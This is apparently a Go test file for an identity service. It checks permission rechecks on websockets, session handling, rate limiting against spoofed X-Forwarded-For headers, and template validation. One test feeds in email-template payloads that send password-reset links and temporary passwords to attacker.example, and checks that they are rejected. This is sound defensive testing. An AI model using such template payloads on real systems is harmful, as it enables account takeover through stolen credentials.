package app_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/gorilla/websocket"
	"github.com/stretchr/testify/require"

	"github.com/rollcall/rollcall/ent/delivery"
	"github.com/rollcall/rollcall/ent/user"
	"github.com/rollcall/rollcall/internal/config"
	"github.com/rollcall/rollcall/internal/perm"
	"github.com/rollcall/rollcall/internal/testkit"
)

// wsOperation runs a query or mutation on an open websocket and returns its
// result.
func (w *wsClient) operation(id, query string, vars map[string]any) wsResult {
	w.t.Helper()
	w.subscribe(id, query, vars)
	r := w.next(id, 5*time.Second)
	m, err := w.read(5 * time.Second)
	require.NoError(w.t, err)
	require.Equal(w.t, "complete", m.Type, "%s", m.Payload)
	return r
}

// requireClosed waits for the server to close the connection, and on the
// legacy protocol for it to say why.
func (w *wsClient) requireClosed(reason string) {
	w.t.Helper()
	var said string
	for {
		m, err := w.read(10 * time.Second)
		if err != nil {
			var netErr net.Error
			if errors.As(err, &netErr) && netErr.Timeout() {
				w.t.Fatal("the connection is still open 10s later")
			}
			var closed *websocket.CloseError
			require.ErrorAs(w.t, err, &closed)
			break
		}
		if m.Type == "connection_error" {
			var e struct{ Message string }
			require.NoError(w.t, json.Unmarshal(m.Payload, &e))
			said = e.Message
		}
	}
	if w.p.name == "graphql-ws" {
		require.Equal(w.t, reason, said)
	}
}

func errorCode(r wsResult) string {
	if len(r.Errors) == 0 {
		return ""
	}
	return r.Errors[0].Code()
}

// A person's rights are read at every operation on an open websocket, and a
// change of role or of the role's permissions closes the connection (and its
// subscriptions), so nothing runs with rights the person no longer holds.
func TestRightsOnOpenWebsockets(t *testing.T) {
	t.Parallel()
	a := newAdmin(t)
	s := a.s
	people := s.AddPeople(t, a.org,
		testkit.Person{Email: "bob@acme.test", Role: "Admin", Status: user.StatusActive, Password: "bob-password-12"},
		testkit.Person{Email: "ada@acme.test"})
	bob, ada := people[0], fmt.Sprint(people[1].ID)
	linkMutation := `mutation($id: ID!) { createInvitationLink(userId: $id) { url } }`
	inviteMutation := `mutation($in: InviteUsersInput!) { inviteUsers(input: $in) { users { id } } }`
	setRole := func(role string) {
		require.NoError(t, s.DB.Client.User.UpdateOne(bob).SetRoleID(a.org.Roles[role].ID).Exec(testkit.System()))
	}

	for _, p := range wsProtocols {
		t.Run(p.name, func(t *testing.T) {
			setRole("Admin")
			w := wsOpen(t, s, p, s.Login(t, "acme", "bob@acme.test", "bob-password-12"))
			require.Empty(t, w.operation("1", linkMutation, map[string]any{"id": ada}).Errors)

			// Demoted without any announcement (as another replica's lost
			// event would leave it): the next operation reads the new role.
			setRole("Member")
			require.Equal(t, "FORBIDDEN", errorCode(w.operation("2", linkMutation, map[string]any{"id": ada})))
			require.Equal(t, "FORBIDDEN", errorCode(w.operation("3", inviteMutation,
				map[string]any{"in": map[string]any{"emails": []string{"eve@acme.test"}, "roleId": a.roleID("Member")}})))
			setRole("Admin")
			require.Empty(t, w.operation("4", linkMutation, map[string]any{"id": ada}).Errors, "promoted again")

			// Demoted through the API: the connection and its subscriptions end.
			w.subscribe("5", `subscription { notificationAdded { id } }`, nil)
			var out struct {
				UpdateUser struct{ Role struct{ Name string } }
			}
			s.Query(t, a.tok, `mutation($id: ID!, $role: ID!) { updateUser(id: $id, input: {roleId: $role}) { role { name } } }`,
				map[string]any{"id": fmt.Sprint(bob.ID), "role": a.roleID("Member")}).Decode(t, &out)
			require.Equal(t, "Member", out.UpdateUser.Role.Name)
			w.requireClosed("permissions changed")
		})
	}

	t.Run("a role losing a permission closes its holders' connections", func(t *testing.T) {
		var role struct{ CreateRole struct{ ID string } }
		s.Query(t, a.tok, `mutation { createRole(input: {name: "Linker", permissions: ["people.read", "credentials.manage"]}) { id } }`, nil).Decode(t, &role)
		var id int
		_, err := fmt.Sscan(role.CreateRole.ID, &id)
		require.NoError(t, err)
		require.NoError(t, s.DB.Client.User.UpdateOne(bob).SetRoleID(id).Exec(testkit.System()))
		for _, p := range wsProtocols {
			require.NoError(t, s.DB.Client.Role.UpdateOneID(id).SetPermissions([]perm.Permission{perm.PeopleRead, perm.CredentialsManage}).Exec(testkit.System()))
			w := wsOpen(t, s, p, s.Login(t, "acme", "bob@acme.test", "bob-password-12"))
			require.Empty(t, w.operation("1", linkMutation, map[string]any{"id": ada}).Errors)
			resp := s.Query(t, a.tok, `mutation($id: ID!) { updateRole(id: $id, input: {name: "Linker", permissions: ["people.read"]}) { id } }`,
				map[string]any{"id": role.CreateRole.ID})
			require.Empty(t, resp.Errors)
			w.requireClosed("permissions changed")
		}
	})
}

// With the database unreachable, a signed-in request fails (503 INTERNAL)
// rather than running as anonymous, and so does a websocket's handshake.
func TestUnreachableDatabaseIsNoAnonymity(t *testing.T) {
	t.Parallel()
	a := newAdmin(t)
	s := a.s
	require.NoError(t, s.DB.SQL.Close())
	resp := s.Query(t, a.tok, `{ viewer { email } }`, nil)
	require.Equal(t, http.StatusServiceUnavailable, resp.Status)
	require.Equal(t, "INTERNAL", resp.Code())
	require.Nil(t, resp.Data)
	for _, p := range wsProtocols {
		c, res, err := wsDial(t, s, p.name, nil)
		require.NoError(t, err)
		res.Body.Close()
		require.NoError(t, c.WriteJSON(wsMessage{Type: "connection_init", Payload: map[string]any{"authorization": "Bearer " + a.tok}}))
		m, err := wsRead(t, c)
		if err == nil {
			require.Equal(t, "connection_error", m.Type, "not acknowledged")
			continue
		}
		var closeErr *websocket.CloseError
		require.ErrorAs(t, err, &closeErr)
		require.Equal(t, 4500, closeErr.Code)
	}
}

// A bulk TEMPORARY_PASSWORD send keeps setTemporaryPassword's rule: nobody
// whose role holds permissions the sender lacks gets one.
func TestBulkTemporaryPasswordsKeepTheRoleRule(t *testing.T) {
	t.Parallel()
	a := newAdmin(t)
	s := a.s
	s.AddPeople(t, a.org,
		testkit.Person{Email: "sec@acme.test", Role: "Security Administrator", Status: user.StatusActive, Password: "sec-password-12"},
		testkit.Person{Email: "boss@acme.test", Role: "Owner", Status: user.StatusInvited},
		testkit.Person{Email: "admin@acme.test", Role: "Admin"},
		testkit.Person{Email: "ada@acme.test", Role: "Member"})
	sec := s.Login(t, "acme", "sec@acme.test", "sec-password-12")
	var out sendPayload
	s.Query(t, sec, sendMutation, map[string]any{"in": map[string]any{"kind": "TEMPORARY_PASSWORD"}}).Decode(t, &out)
	require.Equal(t, 1, out.SendInvitations.TemporaryPasswords, "only the Member")
	s.WaitDeliveries(t)

	rows, err := s.DB.Client.Delivery.Query().Where(delivery.ActionEQ(delivery.ActionSKIP)).All(testkit.System())
	require.NoError(t, err)
	reasons := map[string]string{}
	for _, d := range rows {
		if d.Error != nil {
			reasons[d.Email] = *d.Error
		}
	}
	require.Contains(t, reasons["boss@acme.test"], "permissions you do not have")
	require.Contains(t, reasons["admin@acme.test"], "permissions you do not have")
	require.Empty(t, s.EmailsTo(t, "boss@acme.test"))
	require.Len(t, s.EmailsTo(t, "ada@acme.test"), 1)
	boss, err := s.DB.Client.User.Query().Where(user.EmailNormalized("boss@acme.test")).Only(testkit.System())
	require.NoError(t, err)
	require.Equal(t, user.StatusInvited, boss.Status, "the Owner-to-be keeps their invitation")
}

// Changing an active account's address is a credential change: it needs
// credentials.manage, and it ends the person's sessions.
func TestChangingAnActiveAddress(t *testing.T) {
	t.Parallel()
	a := newAdmin(t)
	s := a.s
	var role struct{ CreateRole struct{ ID string } }
	s.Query(t, a.tok, `mutation { createRole(input: {name: "Manager", permissions: ["people.read", "people.manage"]}) { id } }`, nil).Decode(t, &role)
	var managerRole int
	_, err := fmt.Sscan(role.CreateRole.ID, &managerRole)
	require.NoError(t, err)
	people := s.AddPeople(t, a.org,
		testkit.Person{Email: "mia@acme.test", Status: user.StatusActive, Password: "mia-password-12"},
		testkit.Person{Email: "ada@acme.test", Status: user.StatusActive, Password: "ada-password-12"},
		testkit.Person{Email: "new@acme.test"})
	require.NoError(t, s.DB.Client.User.UpdateOne(people[0]).SetRoleID(managerRole).Exec(testkit.System()))
	manager := s.Login(t, "acme", "mia@acme.test", "mia-password-12")
	ada := s.Login(t, "acme", "ada@acme.test", "ada-password-12")
	update := `mutation($id: ID!, $email: String!) { updateUser(id: $id, input: {email: $email}) { email } }`

	resp := s.Query(t, manager, update, map[string]any{"id": fmt.Sprint(people[1].ID), "email": "attacker@evil.test"})
	require.Equal(t, "FORBIDDEN", resp.Code())
	require.Equal(t, "email", resp.Errors[0].Extensions["field"])
	u, err := s.DB.Client.User.Get(testkit.System(), people[1].ID)
	require.NoError(t, err)
	require.Equal(t, "ada@acme.test", u.Email, "unchanged")

	// A person without an account yet is people.manage's to correct.
	resp = s.Query(t, manager, update, map[string]any{"id": fmt.Sprint(people[2].ID), "email": "newer@acme.test"})
	require.Empty(t, resp.Errors)

	// The Owner may; Ada's sessions end.
	resp = s.Query(t, a.tok, update, map[string]any{"id": fmt.Sprint(people[1].ID), "email": "ada@new.test"})
	require.Empty(t, resp.Errors)
	require.Equal(t, http.StatusUnauthorized, s.Query(t, ada, `{ viewer { email } }`, nil).Status)
	notice := s.LastEmailTo(t, "ada@acme.test")
	require.Equal(t, "Your acme email address was changed", notice.Subject)
	require.Contains(t, notice.Text, "ada@new.test")
	require.Empty(t, notice.Links(), "no link to act on")
	require.Empty(t, s.EmailsTo(t, "newer@acme.test"), "people without an account get no notice")
}

// The red team's takeover: an Admin may not put a person's link or password
// where it leaves their email, and a template saved before these rules is
// replaced by the default rather than sent.
func TestTemplatesCannotMoveSecrets(t *testing.T) {
	t.Parallel()
	a := newAdmin(t)
	s := a.s
	s.AddPeople(t, a.org, testkit.Person{Email: "admin@acme.test", Role: "Admin", Status: user.StatusActive, Password: "admin-password-12"})
	admin := s.Login(t, "acme", "admin@acme.test", "admin-password-12")
	update := `mutation($in: UpdateEmailTemplateInput!) { updateEmailTemplate(input: $in) { id } }`
	for _, c := range []struct{ kind, field, subject, html, text string }{
		{"PASSWORD_RESET", "html", "Reset", `<img src="https://attacker.example/p.gif?u={{.ActionURL}}">`, "{{.ActionURL}}"},
		{"PASSWORD_RESET", "html", "Reset", `<a href="https://attacker.example/?u={{.ActionURL}}">go</a>`, "{{.ActionURL}}"},
		{"PASSWORD_RESET", "text", "Reset", `<a href="{{.ActionURL}}">go</a>`, "https://attacker.example/?u={{.ActionURL}}"},
		{"PASSWORD_RESET", "subject", "Reset {{.ActionURL}}", `<a href="{{.ActionURL}}">go</a>`, "{{.ActionURL}}"},
		{"TEMPORARY_PASSWORD", "html", "Welcome", `<img src="https://attacker.example/p.gif?p={{.TemporaryPassword}}">`, "{{.TemporaryPassword}}"},
		{"INVITATION", "html", "Join", `{{if and .FirstName (not .LastName)}}{{eq 1 "a"}}{{end}}<a href="{{.ActionURL}}">join</a>`, "{{.ActionURL}}"},
	} {
		resp := s.Query(t, admin, update, map[string]any{"in": map[string]any{"kind": c.kind, "roleId": a.roleID("Owner"),
			"subject": c.subject, "html": c.html, "text": c.text}})
		require.Equal(t, "BAD_USER_INPUT", resp.Code(), "%+v", c)
		require.Equal(t, c.field, resp.Errors[0].Extensions["field"], "%+v", c)
	}
	n, err := s.DB.Client.EmailTemplate.Query().Count(testkit.System())
	require.NoError(t, err)
	require.Zero(t, n, "nothing saved")

	// A template stored before the rules (written past the API here) is
	// not sent: the default goes instead.
	require.NoError(t, s.DB.Client.EmailTemplate.Create().SetOrganizationID(a.org.ID).SetKind("PASSWORD_RESET").
		SetSubject("Reset").SetHTML(`<img src="https://attacker.example/p.gif?u={{.ActionURL}}">`).SetText("{{.ActionURL}}").
		SetCreatedAt(s.Clock.Now()).SetUpdatedAt(s.Clock.Now()).Exec(testkit.System()))
	resp := s.Query(t, "", `mutation { requestPasswordReset(input: {organization: "acme", email: "owner@acme.test"}) }`, nil)
	require.Empty(t, resp.Errors)
	s.WaitResets(t)
	reset := s.LastEmailTo(t, "owner@acme.test")
	require.NotContains(t, reset.HTML, "attacker.example")
	require.Contains(t, reset.Links()[0], "/password/reset?token=")
}

// Every audit event names its actor, and actor and target are global ids a
// client can pass to node(id:) and to the filter.
func TestAuditActorsAndTargets(t *testing.T) {
	t.Parallel()
	a := newAdmin(t)
	s := a.s
	res, _ := a.invite(t, a.tok, []string{"ada@example.com"}, "Member", true)
	ada := res.InviteUsers.Users[0].ID
	require.Empty(t, accept(s, t, s.LastEmailTo(t, "ada@example.com").Token(), "ada-chose-this-1").Errors)
	var del struct{ DeleteUser bool }
	s.Query(t, a.tok, `mutation($id: ID!) { deleteUser(id: $id) }`, map[string]any{"id": ada}).Decode(t, &del)

	type node struct {
		Typename string `json:"__typename"`
		ID       string
	}
	var log struct {
		AuditEvents struct {
			Edges []struct {
				Node struct {
					Action, ActorLabel string
					ActorID, TargetID  *string
					Actor, Target      *node
				}
			}
		}
	}
	s.Query(t, a.tok, `{ auditEvents(first: 50) { edges { node { action actorLabel actorID targetID
		actor { __typename id } target { __typename id } } } } }`, nil).Decode(t, &log)
	require.NotEmpty(t, log.AuditEvents.Edges)
	owner := fmt.Sprint(a.org.Owner.ID)
	seen := map[string]bool{}
	for _, e := range log.AuditEvents.Edges {
		n := e.Node
		seen[n.Action] = true
		require.NotEmpty(t, n.ActorLabel, n.Action)
		switch n.Action {
		case "user.invited", "user.deleted":
			require.Equal(t, "owner@acme.test", n.ActorLabel)
			require.Equal(t, owner, *n.ActorID)
			require.Equal(t, &node{"User", owner}, n.Actor)
			require.Nil(t, n.Target, "erased")
			require.Equal(t, ada, *n.TargetID)
		case "invitation.accepted":
			require.True(t, strings.HasPrefix(n.ActorLabel, "erased-person-"), "erased since: %s", n.ActorLabel)
			require.Nil(t, n.Actor, "erased since")
		case "bulk_send.created":
			require.Equal(t, "owner@acme.test", n.ActorLabel)
			require.Equal(t, "BulkSend", n.Target.Typename)
		}
	}
	require.True(t, seen["user.invited"] && seen["invitation.accepted"] && seen["user.deleted"] && seen["bulk_send.created"], "%v", seen)

	var filtered struct{ AuditEvents struct{ TotalCount int } }
	s.Query(t, a.tok, `query($id: ID!) { auditEvents(where: {actorID: $id}) { totalCount } }`, map[string]any{"id": owner}).Decode(t, &filtered)
	require.Positive(t, filtered.AuditEvents.TotalCount)
}

// Behind one trusted proxy, a client that writes its own X-Forwarded-For
// entries cannot escape the per-address limit on failed sign-ins: only the
// entry the proxy appended counts.
func TestSpoofedForwardedForSharesOneLimit(t *testing.T) {
	t.Parallel()
	s := testkit.NewServer(t, func(c *config.Config) { c.TrustProxy = 1; c.Auth.ClientFailures = 5 })
	login := func(i int) string {
		body, err := json.Marshal(map[string]any{"query": loginMutation, "variables": map[string]any{"in": map[string]any{
			"login": fmt.Sprintf("nobody%d@example.com", i), "password": "wrong-password-1"}}})
		require.NoError(t, err)
		req, err := http.NewRequest(http.MethodPost, s.URL+"/graphql", bytes.NewReader(body))
		require.NoError(t, err)
		req.Header.Set("Content-Type", "application/json")
		// The client's own entries first, then the proxy's (on two lines).
		req.Header.Add("X-Forwarded-For", fmt.Sprintf("10.%d.%d.1, 192.0.2.%d", i/250, i%250, i%200))
		req.Header.Add("X-Forwarded-For", "203.0.113.7")
		res, err := http.DefaultClient.Do(req)
		require.NoError(t, err)
		defer res.Body.Close()
		var out testkit.Response
		require.NoError(t, json.NewDecoder(res.Body).Decode(&out))
		return out.Code()
	}
	codes := map[string]int{}
	for i := range 12 {
		codes[login(i)]++
	}
	require.Equal(t, map[string]int{"UNAUTHENTICATED": 5, "RATE_LIMITED": 7}, codes)
}

// Watching an idle websocket is no use of its session: the session expires
// after its idle time as if the socket were closed, and the socket with it.
func TestIdleWebsocketDoesNotKeepItsSession(t *testing.T) {
	t.Parallel()
	s := testkit.NewServer(t, func(c *config.Config) { c.Auth.SessionCheck = 20 * time.Millisecond })
	acme := s.CreateOrg(t, "acme")
	ada := s.AddPeople(t, acme, testkit.Person{Email: "ada@acme.test", Status: user.StatusActive, Password: "ada-password-12"})[0]
	tok := s.Login(t, "acme", "ada@acme.test", "ada-password-12")
	sess, err := s.DB.Client.Session.Query().Only(testkit.System())
	require.NoError(t, err)
	w := wsOpen(t, s, wsProtocols[0], tok)

	// 23 idle hours later the watcher's checks still see the session; a
	// role changed behind its back (no announcement) shows a check ran.
	s.Clock.Advance(23 * time.Hour)
	require.NoError(t, s.DB.Client.User.UpdateOne(ada).SetRoleID(acme.Roles["HR"].ID).Exec(testkit.System()))
	w.requireClosed("permissions changed")
	after, err := s.DB.Client.Session.Get(testkit.System(), sess.ID)
	require.NoError(t, err)
	require.Equal(t, sess.ExpiresAt, after.ExpiresAt, "the checks did not extend the session")
}
